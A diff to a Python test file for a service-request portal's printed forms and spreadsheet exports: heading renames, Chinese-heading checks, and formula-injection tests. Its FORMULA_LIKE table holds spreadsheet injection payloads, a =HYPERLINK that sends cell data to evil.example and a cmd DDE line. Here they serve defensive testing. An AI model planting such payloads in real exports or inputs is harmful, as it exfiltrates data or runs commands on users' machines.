@@ -172,7 +172,7 @@ def test_the_template_example_entered_and_printed(example, db_session):
     heads, rows = form_table(page)
     assert heads == [
         "Delivery number",
-        "Customer",
+        "Customer name",
         "Service item",
         "Deliverables",
         "Acceptance criteria",
@@ -183,7 +183,7 @@ def test_the_template_example_entered_and_printed(example, db_session):
     assert rows == [
         {
             "Delivery number": dlv.number,
-            "Customer": "客户A",
+            "Customer name": "客户A",
             "Service item": "生产系统故障修复",
             "Deliverables": "故障原因分析报告 | 系统恢复操作记录 | 后续维护建议",
             "Acceptance criteria": "系统登录无异常 | 故障报告内容完整",
@@ -208,7 +208,7 @@ def test_the_template_example_entered_and_printed(example, db_session):
     assert heads == [
         "Feedback number",
         "Service request",
-        "Customer",
+        "Customer name",
         "Scores (response timeliness / handling effect / service attitude)",
         "Satisfaction (1–5, 5 best)",
         "Suggestions",
@@ -218,7 +218,7 @@ def test_the_template_example_entered_and_printed(example, db_session):
         {
             "Feedback number": "FB-20241001-001",
             "Service request": sr.number,
-            "Customer": "客户A",
+            "Customer name": "客户A",
             "Scores (response timeliness / handling effect / service attitude)": (
                 "Response timeliness: 5 | Handling effect: 4 | Service attitude: 5"
             ),
@@ -239,18 +239,18 @@ def test_the_template_example_entered_and_printed(example, db_session):
     heads, rows = form_table(
         ex["boss"].get(f"/staff/requests/{sr.number}/print/sr").get_data(as_text=True)
     )
-    assert heads[:4] == ["Form number", "Customer", "Contact", "Contact details"]
+    assert heads[:4] == ["Form number", "Customer name", "Contact", "Contact details (masked)"]
     assert rows[0] == {
         "Form number": sr.number,
-        "Customer": "客户A",
+        "Customer name": "客户A",
         "Contact": "李*",
-        "Contact details": "****5678",
+        "Contact details (masked)": "****5678",
         "Description": "生产系统无法登录",
         "Request type": "Fault",
         "Urgency": "P1",
-        "Attachments": "系统截图.png | 错误日志.txt",
+        "Attachment details": "系统截图.png | 错误日志.txt",
         "Submitted at": "2024-10-01 09:30",
-        "Status": "Closed",
+        "Current status": "Closed",
         "Handler": "张强",
     }
     assert sr.number == "SR-20241001-001"
@@ -266,17 +266,17 @@ def test_the_template_example_entered_and_printed(example, db_session):
                 "09:30 接收工单,远程登录系统排查 | 10:15 定位为数据库连接超时 | "
                 "10:30 协同运维王工重启数据库服务 | 11:00 系统恢复正常"
             ),
-            "Hours": "2.5",
+            "Hours spent": "2.5",
             "Temporary workaround": "重启数据库服务",
             "Final result": "数据库连接已恢复,用户可正常登录",
-            "Customer confirmation": "李* (2024-10-01 11:30)",
+            "Customer sign-off": "李* (2024-10-01 11:30)",
         }
     ]
     # the customer sees the same form with their name in full and the handler masked
     _h, rows = form_table(
         ex["customer"].get(f"/requests/{sr.number}/print/ir").get_data(as_text=True)
     )
-    assert rows[0]["Customer confirmation"] == "李明 (2024-10-01 11:30)"
+    assert rows[0]["Customer sign-off"] == "李明 (2024-10-01 11:30)"
     assert rows[0]["Handler"] == "张*"
     assert "核对运维值班表" not in ex["customer"].get(f"/requests/{sr.number}/print/ir").get_data(
         as_text=True
@@ -303,7 +303,7 @@ def test_a_printed_form_is_in_the_readers_language(example, db_session):
     sr = ex["sr"]
     english = ex["customer"].get(f"/requests/{sr.number}/print/sr").get_data(as_text=True)
     _h, rows = form_table(english)
-    assert (rows[0]["Request type"], rows[0]["Status"]) == ("Fault", "In progress")
+    assert (rows[0]["Request type"], rows[0]["Current status"]) == ("Fault", "In progress")
     from portal.models import Account
 
     db_session.get(Account, ex["contact"].id).locale = "zh_CN"
@@ -313,6 +313,45 @@ def test_a_printed_form_is_in_the_readers_language(example, db_session):
     row = form_table(chinese)[1][0]
     assert "故障类" in row.values() and "处理中" in row.values()
     assert "时间以 Asia/Shanghai 为准" in chinese
+
+
+# the column headings of the template's four tables, run together as the template prints them
+TEMPLATE_HEADINGS = {
+    "sr": "表单编号客户名称联系人联系方式(脱敏)需求描述需求类型紧急程度附件信息提交时间当前状态处理负责人",
+    "ir": "问题编号关联服务请求处理负责人处理步骤(时间+操作)耗时临时解决方案最终处理结果客户确认签字",
+    "sd": "交付编号客户名称服务项目交付内容清单验收标准验收结果(通过/不通过)客户签字日期",
+    "fb": "反馈编号关联服务请求客户名称评价维度(响应及时性/处理效果/服务态度)满意度(1-5分,5分最高)意见建议改进措施",
+}
+
+
+def test_the_forms_in_chinese_have_the_templates_headings(example, db_session):
+    """Printed and exported in Chinese, each form is headed in the template's words; over contact
+    details the reader sees in full the heading drops 脱敏 (masked), which would be untrue."""
+    from portal.models import Account
+
+    ex = example
+    sr = ex["sr"]
+    _walk_to_feedback(ex, db_session)
+    for who in ("supervisor", "contact"):
+        db_session.get(Account, ex[who].id).locale = "zh_CN"
+    db_session.flush()
+    # the supervisor is not on the request: the contact is masked, as in the template's example
+    for form, expected in TEMPLATE_HEADINGS.items():
+        page = ex["boss"].get(f"/staff/requests/{sr.number}/print/{form}").get_data(as_text=True)
+        heads, _rows = form_table(page)
+        assert "".join(heads) == expected, form
+        resp = ex["boss"].get(f"/staff/requests/{sr.number}/export/{form}.xlsx")
+        ws = load_workbook(io.BytesIO(resp.data)).active
+        assert [c.value for c in ws[1]] == heads, form
+    # the customer sees their own contact details in full
+    heads, rows = form_table(
+        ex["customer"].get(f"/requests/{sr.number}/print/sr").get_data(as_text=True)
+    )
+    assert heads[3] == "联系方式" and rows[0]["联系方式"] == "13812345678"
+    ws = load_workbook(
+        io.BytesIO(ex["customer"].get(f"/requests/{sr.number}/export/sr.xlsx").data)
+    ).active
+    assert ws.cell(row=1, column=4).value == "联系方式"
 
 
 def test_xlsx_exports_hold_the_printed_fields_and_are_audited(example, db_session):
@@ -384,3 +423,85 @@ def test_the_demo_deliveries_and_feedback_follow_the_rules(db_session, app):
     assert fb.mean_score == Decimal("4.7")
     dlv = db_session.scalar(select(Delivery).where(Delivery.request_id == example.id))
     assert dlv.service_item == "生产系统故障修复" and dlv.result == "pass"
+
+
+# what a customer or an engineer may type that a spreadsheet would read as a formula
+FORMULA_LIKE = {
+    "=": '=HYPERLINK("http://evil.example/?leak="&B2,"Click")',
+    "+": "+1+cmd|' /C calc'!A0",
+    "-": "-2+3",
+    "@": "@SUM(1+1)",
+    "tab": "\t=1+1",
+    "cr": "\r=2+2",
+}
+
+
+def test_typed_text_that_looks_like_a_formula_is_exported_as_text(example, db_session):
+    """Every export writes user text as a string cell, exactly as typed, never as a formula
+    (openpyxl would make "=…" one): a live =HYPERLINK could send the sheet's data away."""
+    from portal.models import ImprovementMeasure
+
+    ex = example
+    sr = ex["sr"]
+    dlv = _walk_to_feedback(ex, db_session)
+    f = FORMULA_LIKE
+    sr.description = f["="]
+    record = db_session.scalar(select(HandlingRecord).where(HandlingRecord.request_id == sr.id))
+    record.workaround, record.final_result = f["="], f["tab"]
+    record.customer_confirmed_name = f["-"]
+    dlv.service_item = f["="]
+    for sig in db_session.scalars(select(Signature).where(Signature.delivery_id == dlv.id)):
+        sig.typed_name = f["@"] if sig.party == "customer" else f["+"]
+    fb = feedback_of(db_session, sr)
+    fb.suggestions = f["cr"]
+    db_session.scalar(
+        select(ImprovementMeasure).where(ImprovementMeasure.feedback_id == fb.id)
+    ).measure = f["="]
+    db_session.flush()
+    expected = {
+        "sr": {"Description": f["="]},
+        "ir": {"Temporary workaround": f["="], "Final result": f["tab"]},
+        "sd": {"Service item": f["="], "Customer signature": f["@"]},
+        # a line end is stored as LF in the workbook's XML: the CR reads back as a line break
+        "fb": {"Suggestions": "\n=2+2"},
+    }
+    for form, cells in expected.items():
+        resp = ex["customer"].get(f"/requests/{sr.number}/export/{form}.xlsx")
+        assert resp.status_code == 200
+        ws = load_workbook(io.BytesIO(resp.data)).active
+        heads = [c.value for c in ws[1]]
+        assert all(c.data_type != "f" for row in ws.iter_rows() for c in row), form
+        for head, text in cells.items():
+            cell = ws[2][heads.index(head)]
+            assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True), (form, head)
+    # the signatures table below the SD, as the handler exports it (both names in full)
+    ws = load_workbook(
+        io.BytesIO(ex["staff"].get(f"/staff/requests/{sr.number}/export/sd.xlsx").data)
+    ).active
+    cells = {c.value: c for row in ws.iter_rows() for c in row if c.value}
+    assert all(c.data_type != "f" for c in cells.values())
+    assert cells[f["@"]].data_type == cells[f["+"]].data_type == "s"
+    # the IR's confirmation: the customer's name first
+    ws = load_workbook(
+        io.BytesIO(ex["customer"].get(f"/requests/{sr.number}/export/ir.xlsx").data)
+    ).active
+    confirmation = ws[2][[c.value for c in ws[1]].index("Customer sign-off")]
+    assert (confirmation.data_type, confirmation.value) == ("s", f["-"] + " (2024-10-01 11:30)")
+    ws = load_workbook(
+        io.BytesIO(ex["customer"].get(f"/requests/{sr.number}/export/fb.xlsx").data)
+    ).active
+    measures = ws[2][[c.value for c in ws[1]].index("Improvement measures")]
+    assert measures.data_type == "s" and measures.value.startswith(f["="] + " (owner: ")
+
+
+def test_control_characters_in_typed_text_do_not_break_an_export(example, db_session):
+    """A pasted vertical tab or form feed cannot be stored in a workbook: it is left out,
+    rather than the export failing."""
+    ex = example
+    sr = ex["sr"]
+    sr.description = "第一段\x0b第二段\x0c"
+    db_session.flush()
+    resp = ex["customer"].get(f"/requests/{sr.number}/export/sr.xlsx")
+    assert resp.status_code == 200
+    ws = load_workbook(io.BytesIO(resp.data)).active
+    assert ws[2][[c.value for c in ws[1]].index("Description")].value == "第一段第二段"
